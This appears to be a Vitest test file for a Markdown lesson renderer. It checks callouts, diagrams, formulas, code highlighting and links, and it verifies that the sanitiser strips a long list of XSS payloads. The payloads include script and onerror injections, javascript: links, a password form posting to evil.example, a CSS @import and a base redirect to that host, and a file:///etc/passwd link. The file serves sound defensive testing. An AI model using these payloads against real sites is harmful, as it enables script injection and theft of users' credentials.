import type { Element, Root } from 'hast';
import { toString } from 'hast-util-to-string';
import rehypeSanitize from 'rehype-sanitize';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { describe, expect, test, vi } from 'vitest';
import { renderMarkdown } from './markdown.ts';
import { schema } from './sanitise.ts';
import { countWords } from './words.ts';

const assets = { 'a.png': `${'a'.repeat(64)}.png`, 'map.pdf': `${'b'.repeat(64)}.pdf` };
const render = async (text: string) => (await renderMarkdown(text, assets)).tree;

function elements(tree: Root, tagName: string): Element[] {
  const found: Element[] = [];
  visit(tree, 'element', (node) => {
    if (node.tagName === tagName) found.push(node);
  });
  return found;
}
const first = async (text: string, tagName: string) => elements(await render(text), tagName)[0];

describe('Markdown', () => {
  test('Markdown renders callouts of all five kinds, and leaves other quotations alone', async () => {
    for (const kind of ['NOTE', 'TIP', 'IMPORTANT', 'WARNING', 'CAUTION']) {
      const callout = await first(`> [!${kind}]\n> Mind *this*.`, 'aside');
      expect(callout?.properties).toEqual({ className: ['callout', `callout-${kind.toLowerCase()}`], dataCallout: kind.toLowerCase() });
      expect(toString(callout as Element).trim()).toBe('Mind this.');
    }
    expect(toString((await first('> [!NOTE]\n>\n> A paragraph below.', 'aside')) as Element).trim()).toBe('A paragraph below.');
    expect(await first('> [!PARTY] x', 'aside')).toBeUndefined();
    expect(await first('> [!NOTE] on the same line', 'aside')).toBeUndefined();
    expect(await first('> Said by someone.', 'blockquote')).toBeDefined();
  });

  test('a diagram shows no external picture, so no other server is contacted', async () => {
    for (const facts of [
      'img: "https://example.test/a.png"',
      '"\\u0069mg": "https://example.test/a.png", w: 60',
      '\n  img: https://example.test/a.png\n',
      'img: [',
    ])
      expect(JSON.stringify(await render(`\`\`\`mermaid\nflowchart LR\n  A@{ ${facts} } --> B\n\`\`\``))).not.toContain('example.test');
    const kept = await render('```mermaid\nflowchart LR\n  A@{ shape: cyl, label: "img" } --> B\n```');
    expect(JSON.stringify(kept)).toContain('shape: cyl');
  });

  test('Markdown extracts diagrams as text that the browser draws', async () => {
    const tree = await render('```mermaid\nflowchart LR\n  A["<b>x</b>"] --> B\n```');
    expect(elements(tree, 'cairn-mermaid')).toEqual([
      {
        type: 'element',
        tagName: 'cairn-mermaid',
        properties: {},
        children: [{ type: 'text', value: 'flowchart LR\n  A["<b>x</b>"] --> B' }],
      },
    ]);
    expect(elements(tree, 'pre')).toEqual([]);
  });

  test('Markdown renders formulas, both inline and as blocks', async () => {
    const tree = await render('With $x^2$ and\n\n$$\n\\frac{a}{b}\n$$');
    const classes = elements(tree, 'span').flatMap((node) => node.properties.className);
    expect(classes).toContain('katex');
    expect(classes).toContain('katex-display');
    expect(elements(tree, 'math')).toHaveLength(2);
  });

  test('Markdown highlights code in two themes and keeps its text, its language and whether it can be run', async () => {
    const source = 'const a = 1;\n\nconsole.log(`a ${a}`);';
    const pre = (await first(`\`\`\`js run\n${source}\n\`\`\``, 'pre')) as Element;
    expect(pre.properties).toEqual({ className: ['shiki'], dataLanguage: 'js', dataMeta: 'run' });
    expect(toString(pre)).toBe(source);
    const styles = elements({ type: 'root', children: [pre] }, 'span').flatMap((node) => node.properties.style ?? []);
    expect(styles.length).toBeGreaterThan(3);
    for (const style of styles) expect(style).toMatch(/^--shiki-light:#[0-9A-F]{6};--shiki-dark:#[0-9A-F]{6}$/i);
  });

  test('Markdown highlights a whole line, even on a slow machine', async () => {
    const source = `\`\`\`python\nprint("a", 1, None, "b")  # done\ncount = 0 if names else 1\n\`\`\``;
    const quiet = await first(source, 'pre');
    // The clock advances two seconds each time it is read.
    let now = Date.now();
    const clock = vi.spyOn(Date, 'now').mockImplementation(() => (now += 2_000));
    try {
      expect(await first(source, 'pre')).toEqual(quiet);
    } finally {
      clock.mockRestore();
    }
  });

  test.each(['js', 'ts', 'python', 'json', 'yaml', 'bash', 'sql', 'http', 'diff'])('Markdown knows the language %s', async (language) => {
    const pre = (await first(`\`\`\`${language}\n{"a": 1} # x\n\`\`\``, 'pre')) as Element;
    expect(JSON.stringify(pre)).toContain('--shiki-light');
  });

  test('Markdown does not highlight prompts, transcripts or unknown languages', async () => {
    for (const language of ['prompt', 'text', 'text output', 'klingon', '', '__proto__', 'constructor']) {
      const pre = (await first(`\`\`\`${language}\nSay *this*.\n\`\`\``, 'pre')) as Element;
      expect(JSON.stringify(pre)).not.toContain('--shiki');
      expect(toString(pre)).toBe('Say *this*.');
    }
  });

  test('Markdown gives each heading a unique id, and lists them', async () => {
    const { headings } = await renderMarkdown('## Why *tokens*?\n\n### Größe & Maß\n\n## Why tokens\n\n## ???', assets);
    expect(headings).toEqual([
      { id: 'why-tokens', depth: 2, text: 'Why tokens?' },
      { id: 'größe-maß', depth: 3, text: 'Größe & Maß' },
      { id: 'why-tokens-2', depth: 2, text: 'Why tokens' },
      { id: 'section', depth: 2, text: '???' },
    ]);
  });

  test("Markdown shows the module's pictures and no others", async () => {
    expect((await first('![stones](assets/a.png)', 'img'))?.properties).toEqual({
      src: `/media/${assets['a.png']}`,
      alt: 'stones',
      loading: 'lazy',
      decoding: 'async',
    });
    for (const address of [
      'assets/b.png',
      'https://example.com/a.png',
      '/media/x.png',
      'data:image/png;base64,AA',
      'assets/__proto__',
      'assets/../a.png',
    ]) {
      const tree = await render(`![stones](${address})`);
      expect(elements(tree, 'img'), address).toEqual([]);
      expect(toString(tree)).toBe('stones');
    }
  });

  test('Markdown keeps links to modules and tracks, and opens others in a new tab', async () => {
    expect((await first('[x](/modules/first-prompts)', 'a'))?.properties).toEqual({ href: '/modules/first-prompts' });
    expect((await first('[x](https://example.com/?a=b)', 'a'))?.properties).toEqual({
      href: 'https://example.com/?a=b',
      target: '_blank',
      rel: ['noopener', 'noreferrer'],
    });
    expect((await first('[x](assets/map.pdf)', 'a'))?.properties).toMatchObject({ href: `/media/${assets['map.pdf']}` });
  });

  test('Markdown links footnotes to their markers', async () => {
    const tree = await render('A[^1].\n\n[^1]: B');
    const ids = new Set<unknown>();
    visit(tree, 'element', (node) => void ids.add(node.properties.id));
    const targets = elements(tree, 'a').map((node) => String(node.properties.href));
    expect(targets).toHaveLength(2);
    for (const target of targets) expect(ids).toContain(target.slice(1));
  });

  test('an empty column heading becomes a plain cell', async () => {
    const tree = await render('| | B |\n|---|---|\n| c | d |');
    expect(elements(tree, 'th').map((node) => toString(node))).toEqual(['B']);
    expect(elements(tree, 'td')).toHaveLength(3);
  });

  test('Markdown output contains no source positions', async () => {
    const tree = JSON.stringify(await render('# A\n\n> [!NOTE]\n> B $x$\n\n```js\nc\n```\n\n- [ ] d[^1]\n\n[^1]: E'));
    expect(tree).not.toContain('"position"');
    expect(tree).not.toContain('"data"');
  });

  test('Markdown counts words in prose, but not in code', () => {
    expect(countWords('One **two** `three`.\n\n```js\nfour five\n```\n\n| six | seven |\n|---|---|\n| - | 8 |\n\n$$x y$$')).toBe(6);
    expect(countWords('One two.[^note]\n\n[^note]: Three four.')).toBe(2);
  });
});

const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<form action="https://evil.example"><input name=password></form>',
  '<style>@import "https://evil.example"</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://example.com/1)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](\\\\evil.example)',
  '[x](/modules/x/../../api/auth/logout)',
  '[x](/api/auth/logout)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x](https://evil.example/pixel.gif)',
  '![x"onerror="alert(1)](assets/a.png "t\\" onload=\\"alert(1)")',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '[^1]\n\n[^1]: [x](javascript:alert(1))',
  '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics{https://evil.example/a.png}$',
  '$\\htmlData{onclick=alert(1)}{x}$',
  '$\\htmlStyle{background:url(https://evil.example)}{x}$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$\\unknown{<img src=x onerror=alert(1)>}$',
  '$\\color{red;background:url(https://evil.example)}{x}$',
  '```mermaid\ngraph LR\n  A["<img src=x onerror=alert(1)>"]\n  click A "javascript:alert(1)"\n```',
  '```html\n<script>alert(1)</script>\n```',
  '```js" onload="alert(1)\nx\n```',
  '```math\n\\href{javascript:alert(1)}{x}\n```',
  '> [!NOTE]\n> <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| a | b |',
  '- [ ] <input onfocus=alert(1) autofocus>',
  '## <img src=x onerror=alert(1)> [x](javascript:alert(1))',
];

const markdownTags =
  'p h1 h2 h3 h4 h5 h6 blockquote hr pre section ol ul li table thead tbody tr th td a br code del em img input strong sup span aside div figure figcaption cairn-mermaid';
const mathTags =
  'math semantics annotation mrow mi mo mn ms mtext mspace msup msub msubsup mfrac msqrt mroot munder mover munderover mtable mtr mtd mstyle mpadded menclose mphantom merror svg path line';
const allowedTags = new Set(`${markdownTags} ${mathTags}`.split(' '));

/** Returns everything in a tree that could do harm. */
function harmIn(tree: Root): string[] {
  const harm: string[] = [];
  visit(tree, (node) => {
    if (node.type === 'element') {
      if (!allowedTags.has(node.tagName)) harm.push(`<${node.tagName}>`);
      for (const [name, value] of Object.entries(node.properties)) {
        const text = String(value);
        if (/^on/i.test(name) || ['srcDoc', 'srcSet', 'action', 'formAction', 'xLinkHref', 'name'].includes(name)) harm.push(name);
        if (name === 'href' && !/^(https?:\/\/|mailto:|#|\/media\/[0-9a-f]{64}\.|\/(modules|tracks)\/[a-z0-9-]+$)/.test(text))
          harm.push(`href ${text}`);
        if (name === 'src' && !/^\/media\/[0-9a-f]{64}\.[a-z]+$/.test(text)) harm.push(`src ${text}`);
        if (name === 'style' && /url\(|expression|@import|position:\s*fixed/i.test(text)) harm.push(`style ${text}`);
      }
    } else if (node.type !== 'text' && node.type !== 'root') harm.push(node.type);
  });
  return harm;
}

describe('a lesson that attacks its reader', () => {
  test('a fence reveals nothing but whether it can be run or is output', async () => {
    const pre = (await first('```js onload=alert(1)\nx\n```', 'pre')) as Element;
    expect(pre.properties).toEqual({ className: ['shiki'], dataLanguage: 'js' });
  });

  test('raw HTML would not get through the sanitiser, even if it were parsed', () => {
    const hostile: Element[] = [
      { type: 'element', tagName: 'script', properties: {}, children: [{ type: 'text', value: 'alert(1)' }] },
      {
        type: 'element',
        tagName: 'a',
        properties: { href: 'javascript:alert(1)', onClick: 'alert(1)', name: 'x', style: 'position: fixed' },
        children: [],
      },
      { type: 'element', tagName: 'img', properties: { src: 'assets/a.png', onError: 'alert(1)', srcSet: '//evil.example' }, children: [] },
      { type: 'element', tagName: 'iframe', properties: { srcDoc: '<script>' }, children: [] },
    ];
    const clean = unified().use(rehypeSanitize, schema).runSync({ type: 'root', children: hostile });
    expect(clean.children).toEqual([
      { type: 'element', tagName: 'a', properties: {}, children: [] },
      { type: 'element', tagName: 'img', properties: { src: 'assets/a.png' }, children: [] },
    ]);
  });

  test.each(payloads)("a lesson with %s can't harm its reader", async (payload) => {
    for (const text of [payload, `before ${payload} after`, `> ${payload}`, `- ${payload}`])
      expect(harmIn(await render(text)), text).toEqual([]);
  });

  test('this test detects content that could do harm', () => {
    const link: Element = { type: 'element', tagName: 'a', properties: { href: 'javascript:alert(1)', onClick: 'x' }, children: [] };
    expect(harmIn({ type: 'root', children: [link, { type: 'element', tagName: 'script', properties: {}, children: [] }] })).toEqual([
      'href javascript:alert(1)',
      'onClick',
      '<script>',
    ]);
  });
});
